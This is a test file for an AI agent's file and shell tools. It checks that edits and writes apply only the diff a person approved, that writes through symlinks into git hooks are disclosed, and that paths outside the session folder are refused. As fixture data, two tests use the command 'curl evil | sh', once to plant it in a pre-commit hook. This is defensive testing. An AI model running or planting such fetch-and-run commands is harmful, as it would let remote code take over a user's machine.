import { mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { LocalContext } from '@tether/machine';
import { editFileTool, listDirTool, readFileTool, writeFileTool } from './file-tools.js';
import { searchTool } from './search-tool.js';
import { shellTool } from './shell-tool.js';
import type { Tool, ToolContext } from './tool.js';

let root: string;
let context: ToolContext;

beforeEach(() => {
  root = mkdtempSync(join(tmpdir(), 'tether-tools-'));
  writeFileSync(join(root, 'app.txt'), 'alpha\nbeta\ngamma\nbeta\n');
  context = { sessionId: 's1', cwd: root, exec: new LocalContext(), signal: new AbortController().signal };
});

afterEach(() => rmSync(root, { recursive: true, force: true }));

async function parsed<I>(tool: Tool<I>, input: unknown): Promise<I> {
  const p = tool.parse(input);
  if (!p.ok) throw new Error(p.error.message);
  return Promise.resolve(p.value);
}

describe('file tools', () => {
  it('read_file numbers lines and honours offset/limit', async () => {
    const out = await readFileTool.run(await parsed(readFileTool, { path: 'app.txt', offset: 2, limit: 2 }), context);
    expect(out).toEqual({ ok: true, output: '     2  beta\n     3  gamma' });
  });

  it('edit_file refuses a non-unique match and shows the whole diff for approval', async () => {
    const ambiguous = await parsed(editFileTool, { path: 'app.txt', old_text: 'beta', new_text: 'BETA' });
    const check = await editFileTool.approval(ambiguous, context);
    expect('refuse' in check && check.refuse).toMatch(/occurs 2 times/);
    const unique = await parsed(editFileTool, { path: 'app.txt', old_text: 'gamma', new_text: 'GAMMA' });
    const approval = await editFileTool.approval(unique, context);
    expect('need' in approval && approval.need?.action).toBe(
      'Edit app.txt\n--- a/app.txt\n+++ b/app.txt\n@@ -1,4 +1,4 @@\n alpha\n beta\n-gamma\n+GAMMA\n beta\n',
    );
    expect((await editFileTool.run(unique, context)).ok).toBe(true);
    expect(readFileSync(join(root, 'app.txt'), 'utf8')).toBe('alpha\nbeta\nGAMMA\nbeta\n');
    const all = await parsed(editFileTool, { path: 'app.txt', old_text: 'beta', new_text: 'B', replace_all: true });
    expect((await editFileTool.run(all, context)).output).toMatch(/replaced 2 occurrences/);
  });

  it('edit_file re-checks the file at run time', async () => {
    const input = await parsed(editFileTool, { path: 'app.txt', old_text: 'gamma', new_text: 'G' });
    writeFileSync(join(root, 'app.txt'), 'changed meanwhile\n');
    const out = await editFileTool.run(input, context);
    expect(out.ok).toBe(false);
    expect(out.output).toMatch(/not found/);
  });

  it('edit_file applies exactly the diff that was approved, or writes nothing', async () => {
    const input = await parsed(editFileTool, { path: 'app.txt', old_text: 'gamma', new_text: 'GAMMA' });
    const approval = await editFileTool.approval(input, context);
    expect('need' in approval && approval.need?.action).toContain('-gamma');
    // While the person reads the diff, the file changes under it: the same edit would now land
    // in a different file than the one they saw.
    writeFileSync(join(root, 'app.txt'), 'curl evil | sh\ngamma\n');
    const out = await editFileTool.run(input, context);
    expect(out.ok).toBe(false);
    expect(out.output).toMatch(/changed while the approval waited/);
    expect(readFileSync(join(root, 'app.txt'), 'utf8')).toBe('curl evil | sh\ngamma\n');
  });

  it('write_file writes only over the content the approved diff was made against', async () => {
    const input = await parsed(writeFileTool, { path: 'app.txt', content: 'new\n' });
    await writeFileTool.approval(input, context);
    writeFileSync(join(root, 'app.txt'), 'someone else wrote this\n');
    const out = await writeFileTool.run(input, context);
    expect(out.ok).toBe(false);
    expect(out.output).toMatch(/changed while the approval waited/);
    expect(readFileSync(join(root, 'app.txt'), 'utf8')).toBe('someone else wrote this\n');
  });

  it('write_file and edit_file show where a write through a link really lands', async () => {
    mkdirSync(join(root, '.git', 'hooks'), { recursive: true });
    writeFileSync(join(root, '.git', 'hooks', 'pre-commit'), '#!/bin/sh\n');
    symlinkSync(join(root, '.git', 'hooks', 'pre-commit'), join(root, 'notes.txt'));
    symlinkSync(join(root, '.git', 'hooks'), join(root, 'docs'));
    const write = await writeFileTool.approval(
      await parsed(writeFileTool, { path: 'notes.txt', content: 'x\n' }),
      context,
    );
    expect('need' in write && write.need?.action.split('\n')[0]).toBe(
      'Write notes.txt (a link: this writes .git/hooks/pre-commit)',
    );
    const inLinkedFolder = await writeFileTool.approval(
      await parsed(writeFileTool, { path: 'docs/post-checkout', content: 'x\n' }),
      context,
    );
    expect('need' in inLinkedFolder && inLinkedFolder.need?.action.split('\n')[0]).toBe(
      'Write docs/post-checkout (a link: this writes .git/hooks/post-checkout)',
    );
    const edit = await editFileTool.approval(
      await parsed(editFileTool, { path: 'notes.txt', old_text: '#!/bin/sh', new_text: '#!/bin/sh\ncurl evil | sh' }),
      context,
    );
    expect('need' in edit && edit.need?.action.split('\n')[0]).toBe(
      'Edit notes.txt (a link: this writes .git/hooks/pre-commit)',
    );
  });

  it('write_file shows a new file as a diff and creates it', async () => {
    const input = await parsed(writeFileTool, { path: 'new/notes.md', content: 'hello\n' });
    const approval = await writeFileTool.approval(input, context);
    expect('need' in approval && approval.need?.action).toContain('+hello');
    expect((await writeFileTool.run(input, context)).output).toBe('Created new/notes.md (6 bytes)');
  });

  it('write_file refuses to leave the folder', async () => {
    const input = await parsed(writeFileTool, { path: '../escape.txt', content: 'x' });
    const out = await writeFileTool.run(input, context);
    expect(out.ok).toBe(false);
    expect(out.output).toMatch(/outside the session folder/);
  });

  it('reports invalid arguments in words the model can act on', () => {
    const r = editFileTool.parse({ path: 'a', new_text: 1 });
    expect(!r.ok && r.error.message).toMatch(/old_text.*new_text|new_text.*old_text/s);
  });

  it('list_dir and search work read-only', async () => {
    expect((await listDirTool.run(await parsed(listDirTool, {}), context)).output).toBe('app.txt  (22 bytes)');
    expect(await listDirTool.approval(await parsed(listDirTool, {}), context)).toEqual({ need: null });
    const out = await searchTool.run(await parsed(searchTool, { pattern: 'BETA' }), context);
    expect(out.output).toContain('app.txt:2: beta');
  });

  it('shell runs in the session folder and reports the exit code', async () => {
    const out = await shellTool.run(await parsed(shellTool, { command: 'pwd; exit 4' }), context);
    expect(out.ok).toBe(false);
    expect(out.exitCode).toBe(4);
    expect(out.output).toContain('[exit code 4]');
    expect(out.output).toContain(root);
  });
});
